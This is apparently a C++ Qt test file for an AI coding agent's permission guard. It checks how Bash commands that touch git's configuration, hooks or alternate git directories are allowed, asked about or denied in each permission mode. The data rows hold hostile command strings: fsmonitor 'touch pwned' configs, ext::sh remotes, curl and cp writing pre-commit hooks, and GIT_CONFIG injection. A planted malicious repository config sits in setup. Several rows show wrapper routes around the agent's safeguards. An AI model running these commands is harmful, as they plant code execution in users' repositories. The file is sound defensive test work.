// Issue #31, item 2: what changes git's configuration or hooks asks in every mode (bypass
// included, no rule pre-approves it), git pointed at a git folder other than the repository's
// is never read-only, and git's own work is what the sandbox leaves .git writable for. By the
// real analysis (the built-in parser) of a real repository, row by row, in every mode.
// That the sandbox holds for what the analysis cannot see: tests/tools/tst_sandboxgit.cpp;
// across the process boundary: tests/app/tst_headlessgitguard.cpp.

#include <permissions/bashanalysis.h>
#include <permissions/permissionmiddleware.h>
#include <permissions/permissionpolicy.h>
#include <testmain.h>
#include <tools/bashtool.h>
#include <tools/toolworkspace.h>

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

using namespace AgentCore;

namespace tst_gitguard {

namespace {

bool writeFile(const QString &path, const QByteArray &bytes)
{
    QDir().mkpath(QFileInfo(path).path());
    QFile file(path);
    return file.open(QIODevice::WriteOnly | QIODevice::Truncate)
           && file.write(bytes) == bytes.size();
}

QString behaviorName(PermissionBehavior behavior)
{
    switch (behavior) {
    case PermissionBehavior::Allow:
        return QStringLiteral("allow");
    case PermissionBehavior::Ask:
        return QStringLiteral("ask");
    case PermissionBehavior::Deny:
        return QStringLiteral("deny");
    }
    return {};
}

const QList<PermissionMode> modes{PermissionMode::Default,
                                  PermissionMode::AcceptEdits,
                                  PermissionMode::Plan,
                                  PermissionMode::Bypass};

} // namespace

class tst_GitGuard : public QObject
{
    Q_OBJECT

    QTemporaryDir m_dir;
    QString m_root;

    BashAnalysis analyze(const QString &command, const QString &shfmt = QStringLiteral("-")) const
    {
        return BashAnalyzer(m_root, shfmt).analyze(command);
    }

    PermissionDecision decide(PermissionMode mode,
                              const QString &command,
                              const QStringList &allowRules,
                              const QString &shfmt) const
    {
        PermissionPolicy policy(m_root, mode);
        for (const QString &text : allowRules) {
            PermissionRule rule = PermissionRule::parse(text, PermissionBehavior::Allow).value();
            rule.source = QStringLiteral("test");
            policy.addRule(rule);
        }
        PermissionSubject subject;
        subject.toolName = QStringLiteral("Bash");
        subject.sideEffects = true;
        subject.arguments = {{"command", command}};
        subject.bash = analyze(command, shfmt);
        return policy.decide(subject);
    }

private slots:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        m_root = ToolWorkspace::canonicalPath(m_dir.path());
        QProcess git;
        git.setWorkingDirectory(m_root);
        git.start(QStringLiteral("git"), {QStringLiteral("init"), QStringLiteral("-q")});
        QVERIFY(git.waitForFinished(30000) && git.exitCode() == 0);
        QVERIFY(writeFile(m_root + QStringLiteral("/src/main.c"), "int main;\n"));
        // A git folder the repository tracks, as a clone would bring it.
        QVERIFY(
            writeFile(m_root + QStringLiteral("/tracked/evil.git/HEAD"), "ref: refs/heads/main\n"));
        QVERIFY(writeFile(m_root + QStringLiteral("/tracked/evil.git/config"),
                          "[core]\n\tfsmonitor = touch pwned\n"));
        QVERIFY(QDir().mkpath(m_root + QStringLiteral("/tracked/evil.git/objects")));
        QVERIFY(QDir().mkpath(m_root + QStringLiteral("/tracked/evil.git/refs")));
        // A submodule, whose git folder is in the repository's own; a folder whose .git file
        // names the tracked one.
        QVERIFY(writeFile(m_root + QStringLiteral("/lib/.git"), "gitdir: ../.git/modules/lib\n"));
        QVERIFY(writeFile(m_root + QStringLiteral("/.git/modules/lib/HEAD"), "ref: x\n"));
        QVERIFY(writeFile(m_root + QStringLiteral("/nested/.git"), "gitdir: ../tracked/evil.git\n"));
    }

    // The expected decision in default, acceptEdits, plan and bypass mode, and whether an ask
    // is one that no rule pre-approves (git's configuration, as AgentDesk's own settings).
    void decisions_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<QStringList>("rules");
        QTest::addColumn<QString>("expected"); // default acceptEdits plan bypass
        QTest::addColumn<bool>("configuration");

        const QStringList none;
        const auto row = [](const char *name) -> QTestData & { return QTest::newRow(name); };
        // The ways in of issue #31: every one asks in every mode, plan refuses it.
        row("git config") << "git config core.fsmonitor 'touch pwned'" << none << "ask ask deny ask"
                          << true;
        row("git config, rule allows Bash") << "git config core.fsmonitor 'touch pwned'"
                                            << QStringList{"Bash"} << "ask ask deny ask" << true;
        row("git config --file") << "git config --file .git/config core.fsmonitor x" << none
                                 << "ask ask deny ask" << true;
        row("cd .git && git config")
            << "cd .git && git config core.hooksPath hooks" << none << "ask ask deny ask" << true;
        row("env git config") << "env git config core.fsmonitor x" << none << "ask ask deny ask"
                              << true;
        row("timeout git config") << "timeout 5 git config --add core.pager x" << none
                                  << "ask ask deny ask" << true;
        row("git config set (new syntax)")
            << "git config set core.sshCommand x" << none << "ask ask deny ask" << true;
        row("git -c") << "git -c core.fsmonitor='touch pwned' status" << none << "ask ask deny ask"
                      << true;
        row("git --config-env") << "git --config-env=core.pager=EDITOR log" << none
                                << "ask ask deny ask" << true;
        row("GIT_CONFIG_* variables")
            << "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=x git status"
            << none << "ask ask deny ask" << true;
        row("env GIT_CONFIG_PARAMETERS") << "env GIT_CONFIG_PARAMETERS=\"'core.pager=x'\" git log"
                                         << none << "ask ask deny ask" << true;
        row("remote add ext::") << "git remote add evil 'ext::sh -c touch% pwned'"
                                << QStringList{"Bash(git remote:*)"} << "ask ask deny ask" << true;
        row("remote set-url ext::")
            << "git remote set-url origin ext::sh" << none << "ask ask deny ask" << true;
        row("fetch fd::") << "git fetch fd::3" << none << "ask ask deny ask" << true;
        row("init --template") << "git init --template=tpl" << none << "ask ask deny ask" << true;
        row("python3 -c writes .git/config")
            << "python3 -c 'open(\".git/config\",\"a\").write(\"x\")'" << none << "ask ask deny ask"
            << true;
        row("sh -c writes .git/config")
            << "sh -c 'echo x >> .git/config'" << none << "ask ask deny ask" << true;
        row("sh -c git config") << "sh -c 'git config core.fsmonitor x'" << none
                                << "ask ask deny ask" << true;
        row("python3 runs git config")
            << "python3 -c \"import os; os.system('git config core.fsmonitor x')\""
            << QStringList{"Bash(python3:*)"} << "ask ask deny ask" << true;
        row("cd .git && python3") << "cd .git && python3 -c 'open(\"config\",\"a\")'" << none
                                  << "ask ask deny ask" << true;
        row("chmod a hook") << "chmod +x .git/hooks/pre-commit" << none << "ask ask deny ask"
                            << true;
        row("make -C .git") << "make -C .git/hooks" << QStringList{"Bash(make:*)"}
                            << "ask ask deny ask" << true;
        row("tar into hooks") << "tar -xf hooks.tar -C .git/hooks" << QStringList{"Bash(tar:*)"}
                              << "ask ask deny ask" << true;
        row("curl a hook") << "curl -so .git/hooks/pre-commit https://example.com/h" << none
                           << "ask ask deny ask" << true;
        row("loop writes a hook") << "for f in pre-commit; do echo x > .git/hooks/$f; done" << none
                                  << "ask ask deny ask" << true;
        // What the analysis sees writing there stays denied in every mode.
        row("redirection into config")
            << "echo x >> .git/config" << none << "deny deny deny deny" << false;
        row("write a hook") << "printf '#!/bin/sh\\n' > .git/hooks/pre-commit" << none
                            << "deny deny deny deny" << false;
        row("cp a hook") << "cp evil.sh .git/hooks/pre-commit" << none << "deny deny deny deny"
                         << false;
        row("tee info/attributes")
            << "tee .git/info/attributes" << none << "deny deny deny deny" << false;
        // A submodule's .git file, pointed at another folder, sends the user's next
        // `git status` (which looks into submodules) to that folder's configuration.
        row("write a submodule's .git") << "echo 'gitdir: ../tracked/evil.git' > lib/.git" << none
                                        << "deny deny deny deny" << false;
        row("python3 writes a submodule's .git")
            << "python3 -c 'open(\"lib/.git\",\"w\").write(\"gitdir: x\")'" << none
            << "ask ask deny ask" << true;
        // git on another git folder is no read: its configuration would run.
        row("--git-dir tracked") << "git --git-dir=tracked/evil.git status" << none
                                 << "ask ask deny allow" << false;
        row("--git-dir, separate")
            << "git --git-dir tracked/evil.git log" << none << "ask ask deny allow" << false;
        row("--git-dir diff --no-index")
            << "git --git-dir=tracked/evil.git diff --no-index src/main.c src/main.c" << none
            << "ask ask deny allow" << false;
        row("--git-dir written") << "git --git-dir=new.git status" << none << "ask ask deny allow"
                                 << false;
        row("-C tracked") << "git -C tracked/evil.git status" << none << "ask ask deny allow"
                          << false;
        row("cd tracked") << "cd tracked/evil.git && git log" << none << "ask ask deny allow"
                          << false;
        row("GIT_DIR=") << "GIT_DIR=tracked/evil.git git status" << none << "ask ask deny allow"
                        << false;
        row("--git-dir outside") << "git --git-dir=/tmp/x.git status" << none
                                 << "ask ask deny allow" << false;
        row("--work-tree outside")
            << "git --work-tree=/etc status" << none << "ask ask deny allow" << false;
        row("-C outside") << "git -C /etc status" << none << "ask ask deny allow" << false;
        // Ordinary git stays as it was.
        row("status") << "git status" << none << "allow allow allow allow" << false;
        row("log") << "git log --oneline -5" << none << "allow allow allow allow" << false;
        row("config --get") << "git config --get user.name" << none << "allow allow allow allow"
                            << false;
        row("config --list") << "git config --list" << none << "allow allow allow allow" << false;
        // The old syntax: a name alone reads its value, a name and a value set it.
        row("config NAME") << "git config user.name" << none << "allow allow allow allow" << false;
        row("config -f FILE NAME")
            << "git config -f .gitconfig user.name" << none << "allow allow allow allow" << false;
        row("config NAME VALUE") << "git config user.name x" << none << "ask ask deny ask" << true;
        row("config --file=FILE NAME VALUE") << "git config --file=.git/config core.fsmonitor x"
                                             << none << "ask ask deny ask" << true;
        row("the real --git-dir") << "git --git-dir=.git log" << none << "allow allow allow allow"
                                  << false;
        row("-C src") << "git -C src status" << none << "allow allow allow allow" << false;
        row("-C submodule") << "git -C lib status" << none << "allow allow allow allow" << false;
        row("-C nested, .git file elsewhere")
            << "git -C nested log" << none << "ask ask deny allow" << false;
        row("add and commit") << "git add src && git commit -m 'x'" << none << "ask ask deny allow"
                              << false;
        row("add and commit, rule") << "git add src && git commit -m 'fix .git handling'"
                                    << QStringList{"Bash(git add:*)", "Bash(git commit:*)"}
                                    << "allow allow deny allow" << false;
        row("remote add https") << "git remote add origin https://example.com/r.git" << none
                                << "ask ask deny allow" << false;
        row("push a branch named git-config")
            << "git push origin fix/git-config" << none << "ask ask deny allow" << false;
        row("names .gitignore") << "echo build >> .gitignore" << none << "ask ask deny allow"
                                << false;
        row("make, rule") << "make" << QStringList{"Bash(make:*)"} << "allow allow deny allow"
                          << false;
    }

    void decisions()
    {
        QFETCH(QString, command);
        QFETCH(QStringList, rules);
        QFETCH(QString, expected);
        QFETCH(bool, configuration);
        const QStringList expectations = expected.split(QLatin1Char(' '));
        QCOMPARE(expectations.size(), modes.size());
        // Both parsers: the built-in one and shfmt's, where it is installed.
        QStringList parsers{QStringLiteral("-")};
        if (const QString shfmt = BashAnalyzer::findShfmt(); !shfmt.isEmpty())
            parsers.append(shfmt);
        for (const QString &parser : std::as_const(parsers)) {
            for (qsizetype i = 0; i < modes.size(); ++i) {
                const PermissionDecision decision = decide(modes.at(i), command, rules, parser);
                const QString what = QStringLiteral("%1 in %2 (%3): %4")
                                         .arg(command,
                                              permissionModeName(modes.at(i)),
                                              parser,
                                              decision.reason);
                QVERIFY2(behaviorName(decision.behavior) == expectations.at(i), qPrintable(what));
                if (decision.behavior == PermissionBehavior::Ask)
                    QVERIFY2(decision.changesConfiguration == configuration, qPrintable(what));
            }
        }
    }

    // What the sandbox leaves .git writable for: git's own work, alone or with reads.
    void gitWork_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<bool>("work");
        QTest::newRow("add and commit") << "git add src && git commit -qm x" << true;
        QTest::newRow("commit then log") << "git commit -qm x && git log --oneline -1" << true;
        QTest::newRow("checkout") << "git checkout -b topic" << true;
        QTest::newRow("stash") << "git stash" << true;
        QTest::newRow("merge") << "git merge topic" << true;
        QTest::newRow("rebase") << "git rebase main" << true;
        QTest::newRow("fetch") << "git fetch origin" << true;
        QTest::newRow("-C src") << "git -C src add main.c" << true;
        QTest::newRow("commit message from a command")
            << "git add -A && git commit -m \"$(cat msg.txt)\"" << true;
        QTest::newRow("add a variable") << "git add \"$f\"" << true;
        QTest::newRow("rebase a variable") << "git rebase $OPTS main" << false;
        QTest::newRow("status alone") << "git status" << false;
        QTest::newRow("not git") << "make" << false;
        QTest::newRow("commit and a script") << "git add src && python3 x.py" << false;
        QTest::newRow("commit and export") << "export GIT_DIR=x; git commit -qm x" << false;
        QTest::newRow("assignment") << "GIT_DIR=tracked/evil.git git commit -qm x" << false;
        QTest::newRow("redirection") << "git commit -qm x > out.txt" << false;
        QTest::newRow("rebase --exec") << "git rebase --exec 'sh x' main" << false;
        QTest::newRow("rebase -x") << "git rebase -x 'sh x' main" << false;
        QTest::newRow("fetch --upload-pack") << "git fetch --upload-pack=x origin" << false;
        QTest::newRow("config") << "git config user.name x" << false;
        QTest::newRow("-c") << "git -c core.hooksPath=x commit -qm x" << false;
        QTest::newRow("--git-dir") << "git --git-dir=tracked/evil.git commit -qm x" << false;
        QTest::newRow("-C tracked") << "git -C tracked/evil.git commit -qm x" << false;
        QTest::newRow("submodule foreach") << "git submodule foreach 'sh x'" << false;
        QTest::newRow("remote add ext") << "git remote add x ext::sh" << false;
        QTest::newRow("not understood") << "for f in a; do git add $f; done" << false;
        QTest::newRow("init") << "git init" << false;
    }

    void gitWork()
    {
        QFETCH(QString, command);
        QFETCH(bool, work);
        QStringList parsers{QStringLiteral("-")};
        if (const QString shfmt = BashAnalyzer::findShfmt(); !shfmt.isEmpty())
            parsers.append(shfmt);
        for (const QString &parser : std::as_const(parsers)) {
            const BashAnalysis analysis = analyze(command, parser);
            QVERIFY2(analysis.gitWork == work,
                     qPrintable(parser + QLatin1Char(' ') + analysis.problem));
            if (work)
                QVERIFY(analysis.gitConfigurationChange.isEmpty());
        }
    }

    // The way coding agents write commit messages: a here-document in a command substitution
    // (shfmt's parser follows it).
    void hereDocumentCommitMessageIsGitWork()
    {
        const QString shfmt = BashAnalyzer::findShfmt();
        if (shfmt.isEmpty())
            QSKIP("shfmt is not installed");
        const BashAnalysis analysis
            = analyze(QStringLiteral(
                          "git add -A && git commit -m \"$(cat <<'EOF'\nFix the parser\n\nWhy it "
                          "broke.\nEOF\n)\""),
                      shfmt);
        QVERIFY2(analysis.understood, qPrintable(analysis.problem));
        QVERIFY(analysis.gitWork);
        QVERIFY(analysis.gitConfigurationChange.isEmpty());
    }

    // The middleware tells the Bash tool when the sandbox may leave .git writable: for git's
    // own work only, whatever the mode lets run.
    void middlewareMarksGitWork_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<bool>("writable");
        QTest::newRow("add and commit") << "git add src && git commit -qm x" << true;
        QTest::newRow("status") << "git status" << false;
        QTest::newRow("make") << "make" << false;
        QTest::newRow("commit and make") << "git commit -qm x && make" << false;
    }

    void middlewareMarksGitWork()
    {
        QFETCH(QString, command);
        QFETCH(bool, writable);
        QTemporaryDir logs;
        PermissionGate gate;
        gate.policy = std::make_shared<PermissionPolicy>(m_root, PermissionMode::Bypass);
        gate.workspace = std::make_shared<ToolWorkspace>(m_root, logs.path());
        gate.bash = std::make_shared<BashAnalyzer>(m_root, QStringLiteral("-"));
        const ToolMiddleware middleware = makePermissionMiddleware(gate);
        ToolCallContext context;
        context.toolCallId = QStringLiteral("call_1");
        context.toolName = QStringLiteral("Bash");
        context.arguments = {{"command", command}};
        bool ran = false;
        BashOptions options;
        middleware(context, [&](ToolCallContext &call) {
            ran = true;
            options = call.toolOptions.value<BashOptions>();
            return ToolResult::makeText(QStringLiteral("ok"));
        });
        QVERIFY(ran);
        QCOMPARE(options.gitWritable, writable);
    }

    // A linked worktree's git folders are elsewhere: naming them is naming .git.
    void worktreeGitFolders()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString base = ToolWorkspace::canonicalPath(dir.path());
        QProcess git;
        git.setWorkingDirectory(base);
        git.start(QStringLiteral("sh"),
                  {QStringLiteral("-c"),
                   QStringLiteral("git init -q main && cd main && git -c user.name=t -c "
                                  "user.email=t@t commit -q --allow-empty -m i && git worktree "
                                  "add -q ../wt")});
        QVERIFY(git.waitForFinished(30000) && git.exitCode() == 0);
        const QString common = base + QStringLiteral("/main/.git");
        const BashAnalyzer analyzer(base + QStringLiteral("/wt"), QStringLiteral("-"));
        const BashAnalysis script = analyzer.analyze(
            QStringLiteral("python3 -c 'open(\"%1/config\",\"a\")'").arg(common));
        QVERIFY2(!script.gitConfigurationChange.isEmpty(), qPrintable(script.command));
        QVERIFY(analyzer.analyze(QStringLiteral("git add a && git commit -qm x")).gitWork);
        QVERIFY(analyzer.analyze(QStringLiteral("git status")).readOnly);
    }
};

AGENTDESK_GUILESS_TEST_MAIN(tst_GitGuard)

} // namespace tst_gitguard

#include "tst_gitguard.moc"
